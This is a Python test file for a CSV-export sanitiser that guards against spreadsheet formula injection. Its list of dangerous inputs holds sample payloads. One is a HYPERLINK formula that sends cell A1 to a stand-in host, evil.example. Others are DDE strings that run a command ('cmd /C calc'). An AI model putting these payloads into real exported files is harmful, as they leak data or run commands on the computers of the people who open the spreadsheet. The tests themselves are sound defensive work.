"""Exported CSV cells cannot become spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vetbot.normalize.csv_safe import neutralize_cell, neutralize_mapping, neutralize_row, write_rows

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jan Kowalski", "jan@example.com", "PL", "", "'already", "a=b", "1-2"])
def test_plain_text_is_untouched(value: str) -> None:
    assert neutralize_cell(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, True])
def test_non_strings_pass_through(value: object) -> None:
    assert neutralize_cell(value) is value


def test_rows_mappings_and_writer() -> None:
    assert neutralize_row(["=1", "ok", 2]) == ["'=1", "ok", 2]
    assert neutralize_mapping({"name": "@x", "n": 1}) == {"name": "'@x", "n": 1}
    out = io.StringIO()
    write_rows(out, ["name", "=evil header"], [["=cmd()", "+48 601"], ["Jan", "-"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "'=evil header"], ["'=cmd()", "'+48 601"], ["Jan", "'-"]]


@given(st.text())
def test_no_output_cell_starts_a_formula(value: str) -> None:
    cell = neutralize_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (value, "'" + value)
